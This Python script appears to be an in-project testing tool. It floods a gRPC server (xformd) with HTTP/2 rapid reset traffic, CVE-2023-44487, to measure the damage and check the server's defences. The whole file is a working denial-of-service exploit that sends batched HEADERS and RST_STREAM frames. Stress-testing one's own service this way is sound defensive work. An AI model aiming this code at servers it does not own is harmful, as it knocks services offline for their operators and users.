#!/usr/bin/python3
"""HTTP/2 rapid reset (CVE-2023-44487) against an xformd, to measure what it
costs the server: one connection opens streams and cancels each at once
(HEADERS, then RST_STREAM), as fast as the server reads them.

gRPC 1.51, the version Debian ships and xformd links, has none of the
mitigations gRPC added later; xformd's own defences cut such a connection
off (--max_cancels_per_connection_per_second, --max_queued_stream_resets;
docs/security.md, "HTTP/2 rapid reset"). Run it beside xform-load to see
what it does to healthy clients (one process per attacking connection):

  /usr/bin/python3 tools/h2_rapid_reset.py --server=127.0.0.1:50051 --seconds=20

Against a TLS xformd, give --tls_ca (and --tls_server_name when the
certificate's name is not the host's): the same frames, encrypted.

Needs Debian's python3-h2 (for the handshake and the header block). Not run
in CI: it is an attack, measured by hand.
"""

import argparse
import socket
import ssl
import struct
import threading
import time

import h2.config
import h2.connection
import hpack

HEADERS, RST_STREAM = 1, 3
END_HEADERS = 0x4
CANCEL = 8


def frame(kind, flags, stream, payload):
    return (struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) +
            struct.pack(">I", stream) + payload)


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--server", default="127.0.0.1:50051")
    parser.add_argument("--seconds", type=float, default=20)
    parser.add_argument("--method", default="ListWorlds")
    parser.add_argument("--tls_ca", default="",
                        help="PEM CA to trust: speak TLS (ALPN h2)")
    parser.add_argument("--tls_server_name", default="")
    args = parser.parse_args()
    host, port = args.server.rsplit(":", 1)
    sock = socket.create_connection((host, int(port)), timeout=5)
    if args.tls_ca:
        context = ssl.create_default_context(cafile=args.tls_ca)
        context.set_alpn_protocols(["h2"])
        sock = context.wrap_socket(
            sock, server_hostname=args.tls_server_name or host)
    # The preface and the SETTINGS exchange by the book; then frames by hand.
    connection = h2.connection.H2Connection(
        h2.config.H2Configuration(client_side=True))
    connection.initiate_connection()
    sock.sendall(connection.data_to_send())
    time.sleep(0.2)
    connection.receive_data(sock.recv(65536))
    sock.sendall(connection.data_to_send())
    # Never indexed: the same block stands for every stream.
    never = hpack.NeverIndexedHeaderTuple
    block = hpack.Encoder().encode([
        never(":method", "POST"), never(":scheme", "http"),
        never(":authority", host),
        never(":path", "/xform.v1.Xform/" + args.method),
        never("content-type", "application/grpc"), never("te", "trailers")])

    closed = threading.Event()

    def drain():
        while True:
            try:
                if not sock.recv(1 << 20):
                    break
            except socket.timeout:
                continue  # Quiet for a while: still open.
            except OSError:
                break
        closed.set()

    def drain_now():
        # A TLS socket is not to be read and written from two threads at
        # once: read what is there between batches instead.
        sock.setblocking(False)
        try:
            while True:
                if not sock.recv(1 << 20):
                    closed.set()
                    break
        except (ssl.SSLWantReadError, BlockingIOError):
            pass
        except OSError:
            closed.set()
        sock.settimeout(5)

    if not args.tls_ca:
        threading.Thread(target=drain, daemon=True).start()
    stream, sent, start = 1, 0, time.time()
    end = start + args.seconds
    try:
        while time.time() < end and not closed.is_set():
            batch = bytearray()
            for _ in range(1000):
                batch += frame(HEADERS, END_HEADERS, stream, block)
                batch += frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
                stream += 2
            sock.sendall(batch)
            sent += 1000
            if args.tls_ca:
                drain_now()
    except OSError as error:
        print("send failed:", error)
    elapsed = time.time() - start
    print("streams opened and reset: %d in %.1f s (%.0f a second)%s" %
          (sent, elapsed, sent / elapsed,
           "; the server closed the connection" if closed.is_set() else ""),
          flush=True)


if __name__ == "__main__":
    main()
